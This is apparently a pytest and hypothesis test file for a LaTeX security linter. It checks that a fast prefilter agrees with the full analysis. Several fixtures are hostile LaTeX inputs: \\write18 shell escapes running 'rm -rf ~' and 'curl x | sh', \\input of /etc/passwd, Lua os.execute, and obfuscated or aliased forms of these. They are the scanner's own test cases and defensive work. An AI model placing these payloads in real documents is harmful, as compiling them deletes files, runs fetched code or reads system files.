"""The prefilter (texlean.analysis.prefilter): a shortcut that must never change a result.

``clean_result`` may only answer for a chunk whose full analysis finds nothing
and leaves every state as it was; on everything else it must return None.  The
tests compare it with the full analysis (``analyse_chunk_for_check``) chunk by
chunk — on every test document, on generated chunks built from the constructs
the analyses care about (and the obfuscations that hide them), from several
entry states — and check that it does answer for ordinary mathematics, so that
the comparison is not vacuous.
"""

from __future__ import annotations

import itertools
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from texlean.analysis import prefilter
from texlean.analysis.pipeline import (
    INITIAL,
    ChunkResult,
    ChunkState,
    analyse_chunk,
    analyse_chunk_for_check,
    analyse_chunk_quick,
    clean_result,
)
from texlean.budget import Budget
from texlean.document.chunks import chunk_starts
from texlean.document.lines import _LINE, split_lines
from texlean.engine import Engine

ROOT = Path(__file__).resolve().parents[2]
DOCUMENTS = sorted(
    [*ROOT.glob("tests/security/cases/**/*.tex"), *ROOT.glob("examples/*.tex")],
    key=str,
)


def full(text: str, entry: ChunkState) -> ChunkResult:
    return analyse_chunk_for_check(text, entry, Budget.unlimited())


def assert_agrees(text: str, entry: ChunkState) -> bool:
    """Whether the prefilter answered; when it did, it answered what the analysis does."""
    quick = clean_result(text, entry, Budget.unlimited())
    if quick is None:
        return False
    reference = full(text, entry)
    assert reference.findings == (), (text, reference.findings)
    assert reference.events == (), (text, reference.events)
    assert reference.directives == ()
    assert reference.exit == entry, text
    assert quick.exit is entry
    assert quick.first_content == reference.first_content, text
    assert quick.complete and reference.complete
    return True


def chunks_of(text: str) -> list[str]:
    lines = split_lines(text)
    bounds = [*chunk_starts(lines), len(lines)]
    return ["".join(lines[a:b]) for a, b in itertools.pairwise(bounds)]


def test_there_are_documents_to_compare_on() -> None:
    assert len(DOCUMENTS) > 50


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda p: str(p.relative_to(ROOT)))
def test_agrees_with_the_full_analysis_on_every_chunk_of_the_test_documents(path: Path) -> None:
    """Both shortcuts: texlean check's (clean_result) and the server's
    (analyse_chunk_quick, which keeps the formalization scan)."""
    entry = INITIAL
    for chunk in chunks_of(path.read_text(encoding="utf-8", errors="replace")):
        assert_agrees(chunk, entry)
        assert_quick_is_full(chunk, entry)
        entry = full(chunk, entry).exit


def test_whole_documents_report_the_same_with_and_without_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    texts = [p.read_text(encoding="utf-8", errors="replace") for p in DOCUMENTS]
    with_it = [Engine(formal_scan=False).analyse_text(t).findings for t in texts]
    monkeypatch.setattr(prefilter, "ENABLED", False)
    without = [Engine(formal_scan=False).analyse_text(t).findings for t in texts]
    assert with_it == without
    assert any(with_it)  # the documents do have findings to lose


ORDINARY = r"""\begin{lemma}
\label{lemma-flat}
Let $R \to S$ be a ring map and $\mathfrak p \subset R$ a prime.
If $M$ is a flat $R$-module (see \cite[Tag 00HB]{stacks}), then
$$
\text{Tor}_1^R(M, N) = 0 \quad\text{for all } N, % an ordinary comment
$$
and $\{x \in M : x^2 = 0\}$ costs 50\% of~\ref{x}.\\
\end{lemma}

"""


def test_answers_for_ordinary_mathematics() -> None:
    assert assert_agrees(ORDINARY, INITIAL)
    assert assert_agrees("Plain prose.\n\n", INITIAL)
    assert assert_agrees("\\begin{proof}\nClear, as $a \\{ b \\}$.\n\\end{proof}\n", INITIAL)
    assert assert_agrees("Display \\[ x \\] and \\( y \\).\n", INITIAL)


@pytest.mark.parametrize(
    "text",
    [
        "\\write18{rm -rf ~}\n",
        "\\immediate\\write18{ls}\n",
        "^^5cwrite18{ls}\n",
        "\\input{/etc/passwd}\n",
        "\\def\\x{\\write}\n",
        "\\catcode`\\%=12\n",
        "\\makeatletter\n",
        "\\begin{verbatim}\n$\n\\end{verbatim}\n",
        "\\begin{document}\n",
        "\\end{document}\n",
        "\\verb|$|\n",
        "\\csname write18\\endcsname\n",
        "\\begin{luacode}\nos.execute('ls')\n\\end{luacode}\n",
        "\\begin{filecontents}{a.tex}\nx\n\\end{filecontents}\n",
        "a {b\n",
        "a }b\n",
        "$a\n\n$b\n",
        "$a$$\n",
        "\\begin{a}\\end{b}\n",
        "\\begin %\n{foo}\n",
        "\\begin\\ {foo}\n",
        "x\\)\n",
        "\\text{\\\\(x\\)}\n",  # \\ then "(": the \) is stray
        "% texlean: disable-next-line SEC101\n\\relax\n",
        "a\x0cb\n",
        "a\rb\n",
        "tail\\",
    ],
)
def test_declines_what_it_cannot_prove_clean(text: str) -> None:
    assert clean_result(text, INITIAL, Budget.unlimited()) is None


def _state_after(preamble: str) -> ChunkState:
    return full(preamble, INITIAL).exit


STATES = {
    "initial": INITIAL,
    "makeatletter": _state_after("\\makeatletter\n"),
    "alias": _state_after("\\let\\x\\write\n\\def\\y{\\immediate\\write18}\n"),
    "environment": _state_after("\\newenvironment{foo}{\\write18{ls}}{}\n"),
    "harmless": _state_after("\\newcommand\\R{\\mathbb{R}}\n\\newenvironment{bar}{}{}\n"),
    "active": _state_after("\\def~{\\write18{ls}}\n"),
    "ended": _state_after("\\begin{document}\nx\n\\end{document}\n"),
}
for _name, _state in STATES.items():
    assert _name == "initial" or _state != INITIAL, _name

PIECES = [
    "word ",
    "x",
    " ",
    "\t",
    "\n",
    "\n\n",
    "\r\n",
    "$",
    "$$",
    "{",
    "}",
    "\\(",
    "\\)",
    "\\[",
    "\\]",
    "\\\\",
    "\\{",
    "\\}",
    "\\$",
    "\\%",
    "% comment $ {\n",
    "%",
    "~",
    "@",
    "\\x",
    "\\y",
    "\\R",
    "\\alpha",
    "\\text{",
    "\\begin{foo}",
    "\\end{foo}",
    "\\begin{bar}",
    "\\end{bar}",
    "\\begin{equation}",
    "\\end{equation}",
    "\\begin {bar}",
    "\\begin\n{bar}",
    "\\begin%\n{bar}",
    "\\begin{verbatim}",
    "\\end{verbatim}",
    "\\end{document}",
    "\\write18{ls}",
    "\\input{/etc/passwd}",
    "\\def\\z{",
    "\\let\\z=",
    "\\csname",
    "\\endcsname",
    "^^5c",
    "^",
    "\\verb|",
    "|",
    "\\url{",
    "\\catcode`\\{=12 ",
    "\\makeatletter",
    "\\foo@bar",
    "\\@x",
    "texlean",
    "\\",
    "\x0c",
    "é",
    "𝔽",
]


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=24),
    st.sampled_from(sorted(STATES)),
)
def test_agrees_with_the_full_analysis_on_generated_chunks(pieces: list[str], state: str) -> None:
    assert_agrees("".join(pieces), STATES[state])


# Well-formed chunks (which the prefilter should mostly accept), then the same with
# one piece from PIECES put somewhere (which it must get right either way).
_ATOMS = st.sampled_from(
    ["word ", "x", "\\n", "\\n\\n", " ", "\\alpha ", "\\{", "\\%", "~", "\\\\", "% c\\n", "\\R"]
)


def _wrapped(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        inner.map(lambda s: "{" + s + "}"),
        inner.map(lambda s: "\\text{" + s + "}"),
        inner.map(lambda s: "$" + s + "$"),
        inner.map(lambda s: "$$" + s + "$$"),
        inner.map(lambda s: "\\(" + s + "\\)"),
        inner.map(lambda s: "\\[" + s + "\\]"),
        inner.map(lambda s: "\\begin{bar}" + s + "\\end{bar}"),
        inner.map(lambda s: "\\begin{equation}" + s + "\\end{equation}"),
        inner.map(lambda s: "\\begin{foo}" + s + "\\end{foo}"),
    )


WELL_FORMED = st.recursive(
    _ATOMS,
    lambda inner: st.one_of(_wrapped(inner), st.lists(inner, min_size=2, max_size=4).map("".join)),
    max_leaves=24,
)


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    WELL_FORMED,
    st.one_of(st.none(), st.sampled_from(PIECES)),
    st.integers(min_value=0),
    st.sampled_from(sorted(STATES)),
)
def test_agrees_with_the_full_analysis_on_well_formed_chunks_and_near_misses(
    text: str, piece: str | None, at: int, state: str
) -> None:
    if piece is not None:
        at %= len(text) + 1
        text = text[:at] + piece + text[at:]
    assert_agrees(text, STATES[state])


@given(st.text(alphabet="ab \t\r\n\v\f\x1c\x85\u2028{}$\\", max_size=40))
def test_split_lines_is_the_three_line_ends_lsp_knows(text: str) -> None:
    expected = _LINE.findall(text)
    if not expected or expected[-1].endswith(("\n", "\r")):
        expected.append("")
    assert split_lines(text) == expected


# -- whole documents (texlean check reads a document once: analysis/whole.py) --------------

_PREAMBLES = [
    "",
    "\\makeatletter\n",
    "\\let\\x\\write\n\\def\\y{\\immediate\\write18}\n",
    "\\newenvironment{foo}{\\write18{ls}}{}\n",
    "\\newcommand\\R{\\mathbb{R}}\n\\newenvironment{bar}{}{}\n",
    "\\def~{\\write18{ls}}\n",
]


def _report(text: str, enabled: bool, monkeypatch: pytest.MonkeyPatch) -> object:
    monkeypatch.setattr(prefilter, "ENABLED", enabled)
    report = Engine(formal_scan=False).analyse_text(text)
    return report.findings, report.suppressed, report.complete


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.sampled_from(_PREAMBLES),
    st.lists(
        st.tuples(WELL_FORMED, st.one_of(st.none(), st.sampled_from(PIECES)), st.integers(0)),
        min_size=1,
        max_size=80,
    ),
    st.sampled_from(["\n\n", "\n\n\n", "\n  \n", "\n"]),
)
def test_documents_report_the_same_read_once_as_chunk_by_chunk(
    preamble: str,
    paragraphs: list[tuple[str, str | None, int]],
    gap: str,
) -> None:
    body = []
    for text, piece, at in paragraphs:
        if piece is not None:
            at %= len(text) + 1
            text = text[:at] + piece + text[at:]
        body.append(text)
    document = preamble + gap.join(body) + "\n"
    with pytest.MonkeyPatch.context() as mp:
        assert _report(document, True, mp) == _report(document, False, mp)


def test_a_long_document_is_read_in_groups_and_reports_what_its_chunks_do(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from texlean.analysis import whole

    clean = "A paragraph with $x^{2}$ and \\emph{words}.\n\n"
    text = (
        "\\documentclass{article}\n\\begin{document}\n\n"
        + clean * 100
        + "Now {an unclosed brace.\n\n"
        + clean * 100
        + "\\write18{curl x | sh}\n\n"
        + clean * 100
        + "\\end{document}\n"
    )
    calls: list[int] = []
    original = whole.clean_result

    def counting(chunk: str, *args: object) -> object:
        calls.append(chunk.count("\n\n"))
        return original(chunk, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(whole, "clean_result", counting)
    with_groups = _report(text, True, monkeypatch)
    assert max(calls) >= whole.GROUP - 1  # whole groups went to the prefilter at once
    assert len(calls) < 100  # not one call per paragraph
    codes = [f.code for f in with_groups[0]]  # type: ignore[index]
    assert "STR002" in codes and any(c.startswith("SEC1") for c in codes)
    assert with_groups == _report(text, False, monkeypatch)


# -- the server's path: analyse_chunk_quick ------------------------------------------------


def _scan_fields(result: ChunkResult) -> object:
    """A chunk's formalization scan as values (ChunkScan compares by identity)."""
    s = result.formal
    if s is None:
        return None
    return tuple(getattr(s, k) for k in type(s).__slots__ if k != "memo")


def assert_quick_is_full(text: str, entry: ChunkState) -> None:
    quick = analyse_chunk_quick(text, entry, Budget.unlimited())
    reference = analyse_chunk(text, entry, Budget.unlimited())
    assert replace(quick, formal=None) == replace(reference, formal=None), text
    assert _scan_fields(quick) == _scan_fields(reference), text


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    WELL_FORMED,
    st.one_of(st.none(), st.sampled_from(PIECES)),
    st.integers(min_value=0),
    st.sampled_from(sorted(STATES)),
    st.sampled_from(["", "\\begin{theorem}\\label{t}", "\\begin{lemma}[Name]"]),
)
def test_the_servers_shortcut_gives_the_full_result_on_generated_chunks(
    text: str, piece: str | None, at: int, state: str, opening: str
) -> None:
    if piece is not None:
        at %= len(text) + 1
        text = text[:at] + piece + text[at:]
    if opening:
        env = opening.split("{")[1].split("}")[0]
        text = f"{opening} If $x > 0$ then {text}. \\end{{{env}}}\n"
    assert_quick_is_full(text, STATES[state])


def test_the_servers_shortcut_keeps_the_statements_for_formalization() -> None:
    text = "\\begin{theorem}\\label{thm-a}\nIf $n > 2$ then $n - 1 > 1$.\n\\end{theorem}\n"
    quick = analyse_chunk_quick(text, INITIAL, Budget.unlimited())
    assert clean_result(text, INITIAL, Budget.unlimited()) is not None  # the shortcut applies
    assert quick.formal is not None and quick.formal.marks  # the theorem is marked
    assert _scan_fields(quick) == _scan_fields(analyse_chunk(text, INITIAL, Budget.unlimited()))


@pytest.mark.parametrize("formal_scan", [False, True], ids=["check", "server"])
def test_a_budget_that_runs_out_in_the_prefilter_is_reported(formal_scan: bool) -> None:
    text = "".join(f"Paragraph {i} with $a_{{{i}}}$ and \\emph{{words}}.\n\n" for i in range(3000))
    engine = Engine(timeout_seconds=0.0005, formal_scan=formal_scan)
    report = engine.analyse_text(text + "\\write18{ls}\n")
    assert not report.complete
    assert [f.code for f in report.findings] == ["SEC900"]
